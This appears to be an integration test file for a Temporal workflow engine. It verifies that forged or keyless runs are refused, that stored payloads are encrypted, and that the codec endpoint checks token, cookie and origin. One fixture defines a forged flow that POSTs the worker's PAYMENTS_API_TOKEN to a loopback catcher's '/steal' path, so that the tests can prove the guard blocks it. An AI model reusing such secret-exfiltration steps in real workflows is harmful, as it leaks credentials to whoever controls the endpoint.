// Payloads in Temporal are encrypted (lib/payload-codec.ts), and the worker runs only runs whose
// input an operator key wrote: anyone who reaches Temporal's port can start a `runFlow`, and a
// forged one must fail before any step, having called nothing (worker/payload-guard.ts,
// workflows/payload-guard.ts). On the real stack: Temporal dev server, worker, ingress, FerretDB,
// SMTP, a loopback catcher for the forged run's http.request.
import { after, before, test } from 'node:test';
import assert from 'node:assert/strict';
import { Client, WorkflowFailedError } from '@temporalio/client';
import { ApplicationFailure, defaultPayloadConverter } from '@temporalio/common';
import { temporal } from '@temporalio/proto';
import { CORRELATION_QUERY, EVENT_SIGNAL, FLOW_WORKFLOW_TYPE, type CorrelationState, type FlowRunInput } from '../../engine/contract';
import type { FlowDefinition } from '../../engine/types';
import { UNAUTHENTICATED_FAILURE } from '../../engine/unauthenticated';
import { EncryptionCodec, generatePayloadKeys, parsePayloadKeys } from '../../lib/payload-codec';
import { startTestStack, TEST_ADMIN_TOKEN, TEST_TASK_QUEUE, type TestStack } from '../helpers/stack';
import { payloadJson } from '../../server/admin/codec';
import { paymentSucceeded, postEvent, uid } from '../helpers/events';
import { startFakeApi, type FakeApi } from '../helpers/fake-api';
import { waitFor } from '../helpers/wait-for';

let stack: TestStack;
let catcher: FakeApi;
/** A client as an attacker who reaches Temporal has one: no codec, no key. */
let keyless: Client;
before(async () => {
  catcher = await startFakeApi();
  stack = await startTestStack();
  keyless = new Client({ connection: stack.client.connection, namespace: 'default' });
});
after(async () => {
  await stack?.stop();
  await catcher?.close();
});

/** What an attacker would run: the worker's secrets to their own server. */
const exfiltrate = (): FlowDefinition => ({
  name: 'forged', version: 'x', trigger: { source: 'payments', events: ['x'] },
  steps: [{ id: 'steal', uses: 'http.request', with: { method: 'POST', url: `${catcher.url}/steal`, body: { token: { secret: 'PAYMENTS_API_TOKEN' } } } }],
});
const input = (): FlowRunInput => ({ flow: exfiltrate(), event: { id: uid('evt'), type: 'x', source: 'payments', receivedAt: new Date().toISOString(), body: {} } });
const stolen = () => catcher.requests.filter((r) => r.path === '/steal').length;

async function refusal(client: Client): Promise<{ failure: ApplicationFailure; eventTypes: string[] }> {
  const handle = await client.workflow.start(FLOW_WORKFLOW_TYPE, { taskQueue: TEST_TASK_QUEUE, workflowId: uid('forged'), args: [input()] });
  const err = await handle.result().then(() => undefined, (e: unknown) => e);
  assert.ok(err instanceof WorkflowFailedError, `the forged run must fail, got ${String(err)}`);
  assert.ok(err.cause instanceof ApplicationFailure);
  const history = await handle.fetchHistory();
  const eventTypes = (history.events ?? []).map((e) => temporal.api.enums.v1.EventType[e.eventType ?? 0]);
  return { failure: err.cause, eventTypes };
}

test('a runFlow started directly on Temporal, without a key, fails at once, non-retryable, and calls nothing', async () => {
  const before = stolen();
  const { failure, eventTypes } = await refusal(keyless);
  assert.equal(failure.type, UNAUTHENTICATED_FAILURE);
  assert.equal(failure.nonRetryable, true);
  assert.match(failure.message, /run refused, its input is not from hookflow's ingress: payload not encrypted with an operator key/);
  // One workflow task, then the failure: no activity, no local activity marker, no timer.
  assert.deepEqual(eventTypes, ['EVENT_TYPE_WORKFLOW_EXECUTION_STARTED', 'EVENT_TYPE_WORKFLOW_TASK_SCHEDULED', 'EVENT_TYPE_WORKFLOW_TASK_STARTED', 'EVENT_TYPE_WORKFLOW_TASK_COMPLETED', 'EVENT_TYPE_WORKFLOW_EXECUTION_FAILED']);
  assert.equal(stolen(), before, 'the catcher received nothing');

  // The same flow with a key does call the catcher: the refusal above is the guard's, not the flow's.
  const handle = await stack.client.workflow.start(FLOW_WORKFLOW_TYPE, { taskQueue: TEST_TASK_QUEUE, workflowId: uid('keyed'), args: [input()] });
  await handle.result();
  assert.equal(stolen(), before + 1);
});

test('a run encrypted with a key the worker does not hold is refused the same way', async () => {
  const before = stolen();
  const wrongKey = new Client({ connection: stack.client.connection, namespace: 'default', dataConverter: { payloadCodecs: [new EncryptionCodec(parsePayloadKeys(generatePayloadKeys('test')))] } });
  const { failure, eventTypes } = await refusal(wrongKey);
  assert.equal(failure.type, UNAUTHENTICATED_FAILURE);
  assert.match(failure.message, /failed authentication with key "test"/);
  assert.ok(!eventTypes.includes('EVENT_TYPE_ACTIVITY_TASK_SCHEDULED') && !eventTypes.includes('EVENT_TYPE_MARKER_RECORDED'));
  assert.equal(stolen(), before);
});

test('a real event runs end to end, and Temporal holds only ciphertext: no customer email in the history a keyless client fetches', async () => {
  const email = `${uid('ada')}@example.com`;
  const orderId = uid('ord');
  await stack.db.collection<{ _id: string; status: string }>('orders').insertOne({ _id: orderId, status: 'pending' });
  const ev = paymentSucceeded({ orderId, email, items: [{ sku: await stockItem(), quantity: 1 }] });
  const res = await postEvent(stack.ingressUrl, ev);
  assert.equal(res.status, 202, JSON.stringify(res.body));
  const workflowId: string = res.body.runs[0].workflowId;
  await stack.client.workflow.getHandle(workflowId).result();
  assert.equal((await stack.db.collection<{ _id: string; status: string }>('orders').findOne({ _id: orderId }))?.status, 'paid');
  await stack.smtp.waitFor((m) => m.to.includes(email));

  const history = await keyless.workflow.getHandle(workflowId).fetchHistory();
  const bytes = Buffer.from(temporal.api.history.v1.History.encode(history).finish());
  assert.ok(!bytes.includes(email), 'the email appears nowhere in the stored history');
  // …while the same payloads, decoded with the key, hold it: the check above looked at the right bytes.
  const started = history.events![0]!.workflowExecutionStartedEventAttributes!.input!.payloads!;
  const decoded = await stack.codec!.decode(started);
  assert.ok(Buffer.from(decoded[0]!.data!).includes(email));
});

async function stockItem(): Promise<string> {
  const sku = uid('SKU');
  await stack.db.collection<{ _id: string; stock: number }>('inventory').insertOne({ _id: sku, stock: 5 });
  return sku;
}

test('the codec endpoint on the admin listener decodes for the admin token or a console session from the UI origin, and nobody else', async () => {
  const email = `${uid('codec')}@example.com`;
  const [encrypted] = await stack.codec!.encode([defaultPayloadConverter.toPayload({ customer: { email } })!]);
  const body = JSON.stringify({ payloads: [payloadJson(encrypted!)] });
  const ui = new URL(stack.temporalUiUrl).origin;
  const decode = (headers: Record<string, string>) => fetch(`${stack.adminUrl}/codec/decode`, { method: 'POST', headers: { 'content-type': 'application/json', 'x-namespace': 'default', ...headers }, body });
  const emailIn = async (res: Response) => Buffer.from(((await res.json()) as { payloads: { data: string }[] }).payloads[0]!.data, 'base64').toString().includes(email);

  const withToken = await decode({ authorization: `Bearer ${TEST_ADMIN_TOKEN}` });
  assert.equal(withToken.status, 200);
  assert.ok(await emailIn(withToken), 'decoded with the token');
  const wrong: Record<string, string>[] = [{}, { authorization: 'Bearer not-the-admin-token-0000' }, { authorization: `Basic ${TEST_ADMIN_TOKEN}` }];
  for (const headers of wrong) {
    const refused = await decode(headers);
    assert.equal(refused.status, 401, JSON.stringify(headers));
    assert.ok(!(await refused.text()).includes(Buffer.from(email).toString('base64').slice(0, 12)));
  }

  // The Temporal UI cannot send the token: it sends the console's cookie, from its own origin only.
  const login = await fetch(`${stack.adminUrl}/console/login`, { method: 'POST', redirect: 'manual', headers: { 'content-type': 'application/x-www-form-urlencoded' }, body: new URLSearchParams({ token: TEST_ADMIN_TOKEN }) });
  const cookie = login.headers.get('set-cookie')!.split(';')[0]!;
  const fromUi = await decode({ cookie, origin: ui });
  assert.equal(fromUi.status, 200);
  assert.equal(fromUi.headers.get('access-control-allow-origin'), ui);
  assert.equal(fromUi.headers.get('access-control-allow-credentials'), 'true');
  assert.ok(await emailIn(fromUi));
  const elsewhere = await decode({ cookie, origin: 'http://127.0.0.1:1' });
  assert.equal(elsewhere.status, 401, 'a session cookie counts only from the UI origin');
  assert.equal(elsewhere.headers.get('access-control-allow-origin'), null);
  const preflight = await fetch(`${stack.adminUrl}/codec/decode`, { method: 'OPTIONS', headers: { origin: ui, 'access-control-request-method': 'POST', 'access-control-request-headers': 'content-type,x-namespace' } });
  assert.equal(preflight.status, 204);
  assert.match(preflight.headers.get('access-control-allow-headers') ?? '', /X-Namespace/);

  // No encoder: it would let a token holder author runs the worker accepts.
  const encode = await fetch(`${stack.adminUrl}/codec/encode`, { method: 'POST', headers: { authorization: `Bearer ${TEST_ADMIN_TOKEN}`, 'content-type': 'application/json' }, body });
  assert.equal(encode.status, 403);
  assert.equal(((await encode.json()) as { error: { code: string } }).error.code, 'codec_encode_refused');
});

test('a plaintext payload (from before encryption) comes back from the codec endpoint as it is', async () => {
  const plain = defaultPayloadConverter.toPayload({ old: true })!;
  const res = await fetch(`${stack.adminUrl}/codec/decode`, { method: 'POST', headers: { authorization: `Bearer ${TEST_ADMIN_TOKEN}`, 'content-type': 'application/json' }, body: JSON.stringify({ payloads: [payloadJson(plain)] }) });
  assert.deepEqual(await res.json(), { payloads: [payloadJson(plain)] });
  const bad = await fetch(`${stack.adminUrl}/codec/decode`, { method: 'POST', headers: { authorization: `Bearer ${TEST_ADMIN_TOKEN}` }, body: '{"payloads": [{"data": "%%%"}]}' });
  assert.equal(bad.status, 400);
});

test('a forged callback signalled straight to a waiting run is dropped; the genuine one, through the ingress, completes it', async () => {
  const paymentId = uid('pay');
  const orderId = uid('ord');
  await stack.db.collection<{ _id: string; status: string }>('orders').insertOne({ _id: orderId, status: 'pending' });
  const data = { payment_id: paymentId, order_id: orderId, amount: 900, currency: 'EUR', method: 'bank_transfer', customer: { email: `${uid('bt')}@example.com` }, items: [{ sku: await stockItem(), quantity: 1 }] };
  const ev = (type: string) => ({ id: uid('evt'), type, created_at: '2026-11-23T10:00:00Z', data });
  assert.equal((await postEvent(stack.ingressUrl, ev('payment.created'))).status, 202);
  const workflowId = `payment-created:payments:${paymentId}`;
  await waitFor('the run to wait for its callback', async () => (await stack.client.workflow.getHandle(workflowId).describe()).searchAttributes.HookflowOutcome?.[0] === 'waiting');

  const forged = ev('payment.succeeded');
  await keyless.workflow.getHandle(workflowId).signal(EVENT_SIGNAL, { event: { id: forged.id, type: forged.type, source: 'payments', receivedAt: new Date().toISOString(), body: forged } });
  // Once a workflow task after the signal completed, the run has seen it: nothing was scheduled, the run still waits.
  const events = await waitFor('the signal to be handled', async () => {
    const all = (await keyless.workflow.getHandle(workflowId).fetchHistory()).events ?? [];
    // The last signal: the ingress started the run with one of its own.
    const at = all.map((e) => !!e.workflowExecutionSignaledEventAttributes).lastIndexOf(true);
    return at >= 0 && all.slice(at).some((e) => e.workflowTaskCompletedEventAttributes) ? all.slice(at) : undefined;
  });
  assert.ok(!events.some((e) => e.activityTaskScheduledEventAttributes || e.markerRecordedEventAttributes || e.workflowExecutionCompletedEventAttributes));
  assert.equal((await stack.client.workflow.getHandle(workflowId).query<CorrelationState>(CORRELATION_QUERY)).outcome, 'waiting');
  assert.notEqual((await stack.db.collection<{ _id: string; status: string }>('orders').findOne({ _id: orderId }))?.status, 'paid');

  assert.equal((await postEvent(stack.ingressUrl, ev('payment.succeeded'))).status, 202);
  await stack.client.workflow.getHandle(workflowId).result();
  assert.equal((await stack.db.collection<{ _id: string; status: string }>('orders').findOne({ _id: orderId }))?.status, 'paid');
});
